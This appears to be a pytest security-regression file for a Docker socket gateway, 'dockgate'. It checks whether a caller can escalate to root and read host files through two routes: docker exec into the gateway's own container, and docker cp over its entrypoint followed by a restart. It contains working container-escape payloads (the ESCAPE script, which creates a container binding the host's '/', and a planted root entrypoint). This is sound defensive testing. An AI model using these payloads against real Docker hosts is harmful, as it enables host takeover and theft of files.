"""Issue 13, "attack your own change": dockgate's image (Dockerfile, deploy/entrypoint.py), as
the README's nginx migration runs it with examples/policies/quickstart.yaml.

- The entrypoint drops the gateway's own process to uid 65532, but the image has no `USER`:
  the container's user is root, so every `docker exec` into it (which the entrypoint never
  sees) runs as uid 0, next to the mounted Docker socket.
- "A read-only root" (README) is a run option the README's own compose snippets leave out:
  `docker cp` (the daemon writes as root) replaces /opt/dockgate/entrypoint.py, which runs as
  root at the next start, which the caller asks for. (The HEALTHCHECK, also run as root every
  10 s, starts /opt/dockgate/bin/python3, which `docker cp` can replace as well: no restart.)

Each test asserts what should hold. The first finding is closed (quickstart.yaml has ownership
now) and its test is an ordinary one; the second stays open, an `xfail(strict=True)` that
XPASSes once it is closed.
"""

from __future__ import annotations

import contextlib
import dataclasses
import io
import pathlib
import re
import tarfile
import time
import uuid

import pytest

from support.attack import ATTACK_MARKS, QUICKSTART_POLICY, Api, host_secret_fixture, logs
from support.daemon import PrivateDaemon, free_tcp_port
from support.remote import json_call

# The session's image build counts into the first test's time: a longer timeout than the
# other reviews' 120 s.
pytestmark = [*(m for m in ATTACK_MARKS if m.name != "timeout"), pytest.mark.timeout(900)]

RUN = uuid.uuid4().hex[:8]

# What a caller runs with `docker exec` in the gateway's container: the image's own python3
# talking to the mounted socket, asking for a container with the host's root file system.
ESCAPE = """
import http.client, json, socket, sys
class C(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX); self.sock.connect("/var/run/docker.sock")
def call(method, path, body=None):
    c = C("docker"); c.request(method, path, json.dumps(body) if body is not None else None,
                               {"Content-Type": "application/json"})
    r = c.getresponse(); return r.status, r.read()
print(call("POST", "/containers/create?name=" + sys.argv[1],
           {"Image": sys.argv[2], "Cmd": ["cat", "/host" + sys.argv[3]],
            "HostConfig": {"Binds": ["/:/host"]}}))
print(call("POST", "/containers/" + sys.argv[1] + "/start"))
"""


host_secret = host_secret_fixture()


@dataclasses.dataclass
class _Listening:
    """What Api needs of a gateway: its port (here the containerised one's)."""

    port: int


def _ready(port: int, timeout: float = 60) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if json_call(port, "GET", "/_ping", timeout=2)[0] == 200:
                return True
        except OSError:
            pass
        time.sleep(0.3)
    return False


def _contained_gateway(
    daemon: PrivateDaemon, image: str, name: str, policy: pathlib.Path, *options: str
) -> Api:
    """The image run as the README's nginx migration runs it (the socket mounted, `policy` as
    DOCKGATE_POLICY, on the host's network) with `options` added; a caller of it, once it
    answers. The caller removes the container `name`."""
    port = free_tcp_port()
    daemon.docker(
        "run", "-d", "--name", name, "--network", "host", *options,
        "-v", f"{daemon.socket_path}:/var/run/docker.sock",
        "-v", f"{policy}:/etc/dockgate/policy.yaml:ro",
        "-e", "DOCKGATE_POLICY=/etc/dockgate/policy.yaml",
        "-e", f"DOCKGATE_LISTEN=tcp://127.0.0.1:{port}",
        "-e", f"DOCKGATE_ADMIN_LISTEN=tcp://127.0.0.1:{free_tcp_port()}",
        image,
    )  # fmt: skip
    assert _ready(port), daemon.docker("logs", name, check=False).stderr
    return Api(_Listening(port))  # type: ignore[arg-type]


def _exec(api: Api, container: str, cmd: list[str]) -> int | None:
    """`docker exec -d CONTAINER CMD...` through `api`, waited for; its exit code, or None
    when the gateway refused it."""
    status, created = api.call(
        "POST",
        f"/v1.41/containers/{container}/exec",
        {"Cmd": cmd, "AttachStdout": False, "AttachStderr": False},
    )
    if status != 201:
        return None
    status, _ = api.call(
        "POST", f"/v1.41/exec/{created['Id']}/start", {"Detach": True, "Tty": False}
    )
    if status != 200:
        return None
    deadline = time.monotonic() + 20
    while True:
        status, info = api.call("GET", f"/v1.41/exec/{created['Id']}/json")
        assert status == 200, (status, info)
        if not info["Running"] and info["ExitCode"] is not None:
            return int(info["ExitCode"])
        assert time.monotonic() < deadline, info
        time.sleep(0.2)


def test_exec_into_the_gateways_own_container_is_not_root_with_the_socket(
    daemon: PrivateDaemon, dockgate_image: str, busybox_image: str, host_secret: pathlib.Path
) -> None:
    """The README's "after" for nginx users: the image, the socket mounted, DOCKGATE_POLICY =
    quickstart.yaml (here on loopback without credentials, which changes nothing for a caller
    who has them), `--read-only` as docs/image.md advises. The caller asks the gateway for
    `docker exec <the gateway's own container> id -u` (ContainerExec and ExecStart: section
    `exec`, any container, `exec.root: true` by default) and gets 0; then execs the image's
    python3 against the socket: a container binding `/` that the gateway itself refuses.
    Pinned as an xfail by the attack review when quickstart.yaml had no ownership; now the
    gateway's container is not the caller's: the exec gets 404 and nothing runs."""
    gateway, escaped = f"atk13b-gw-{RUN}", f"atk13b-img-escaped-{RUN}"
    try:
        caller = _contained_gateway(
            daemon, dockgate_image, gateway, QUICKSTART_POLICY, "--read-only"
        )

        # `id -u` is 0: the exec's user is the image's, root (exit 0 of `test`).
        as_root = _exec(caller, gateway, ["sh", "-c", 'test "$(id -u)" = 0'])
        leaked = ""
        if (
            _exec(
                caller, gateway, ["python3", "-c", ESCAPE, escaped, busybox_image, str(host_secret)]
            )
            is not None
            and daemon.docker("inspect", escaped, check=False).returncode == 0
        ):
            daemon.docker("wait", escaped, check=False, timeout=20)
            leaked = logs(caller, escaped)
        assert host_secret.read_text() not in leaked, f"exec as root: {as_root == 0}"
    finally:
        daemon.docker("rm", "-f", gateway, escaped, check=False)


# What the caller puts in place of /opt/dockgate/entrypoint.py: run as root at the container's
# next start (the entrypoint is what drops privileges), it uses the socket as ESCAPE does.
PLANTED_ENTRYPOINT = (
    "import sys\nsys.argv = ['x', sys.argv[1], sys.argv[2], sys.argv[3]]\n"
    + ESCAPE
    + "import time\ntime.sleep(300)\n"
)


def _entrypoint_tar(escaped: str, image: str, secret: pathlib.Path) -> bytes:
    source = PLANTED_ENTRYPOINT.replace(
        "sys.argv[1], sys.argv[2], sys.argv[3]", f"{escaped!r}, {image!r}, {str(secret)!r}", 1
    ).encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("entrypoint.py")
        info.size, info.mode = len(source), 0o644
        tar.addfile(info, io.BytesIO(source))
    return buffer.getvalue()


@pytest.mark.xfail(
    strict=True,
    reason="a guarded policy without ownership: docker cp into any container, the gateway's own"
    " when run without --read-only, over entrypoint.py + restart runs the caller's code as root"
    " with the socket (THREAT_MODEL.md: without ownership, every container is reachable)",
)
def test_cp_into_the_gateways_own_container_does_not_replace_its_entrypoint(
    daemon: PrivateDaemon,
    dockgate_image: str,
    busybox_image: str,
    host_secret: pathlib.Path,
    tmp_path: pathlib.Path,
) -> None:
    """The README says the image "runs as uid 65532 with a read-only root", but read-only is a
    run option: its nginx migration and drop-in compose snippets run it without `read_only`.
    Here the gateway runs so, with quickstart.yaml less `exec` (a caller who may not exec).
    The caller `docker cp`s a file over /opt/dockgate/entrypoint.py (PutContainerArchive: the
    daemon writes as root) and restarts the container (ContainerRestart); the entrypoint runs as
    root before it drops privileges, so the caller's code talks to the socket: a container
    binding `/` reads the host file. What should hold: the image's files cannot be replaced
    through the API (a read-only root by default, or files the daemon's copy cannot write)."""
    policy = tmp_path / "policy.yaml"
    # A guarded policy without ownership (as quickstart.yaml was when the review pinned this):
    # quickstart's rules less `exec`.
    text = re.sub(r"\n *- exec\b[^\n]*", "", QUICKSTART_POLICY.read_text())
    text = text.replace("    ownership: true\n", "").replace("owners:\n  local: [anonymous]\n", "")
    policy.write_text(text)
    assert "- exec" not in text and "ownership" not in text.replace("# ", "").split("policies:")[1]
    gateway, escaped = f"atk13b-gw2-{RUN}", f"atk13b-img2-escaped-{RUN}"
    try:
        caller = _contained_gateway(daemon, dockgate_image, gateway, policy)
        refused, _ = caller.call("POST", f"/v1.41/containers/{gateway}/exec", {"Cmd": ["id"]})
        assert refused == 403  # no exec for this caller
        status, _ = caller.call(
            "PUT",
            f"/v1.41/containers/{gateway}/archive?path=/opt/dockgate",
            _entrypoint_tar(escaped, busybox_image, host_secret),
            headers={"Content-Type": "application/x-tar"},
        )
        leaked = ""
        if status == 200:
            with contextlib.suppress(OSError):  # the gateway answering is the one restarting
                caller.call("POST", f"/v1.41/containers/{gateway}/restart?t=1")
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                if daemon.docker("inspect", escaped, check=False).returncode == 0:
                    daemon.docker("wait", escaped, check=False, timeout=20)
                    leaked = daemon.docker("logs", escaped).stdout.decode()
                    break
                time.sleep(0.5)
        assert host_secret.read_text() not in leaked
    finally:
        daemon.docker("rm", "-f", gateway, escaped, check=False)
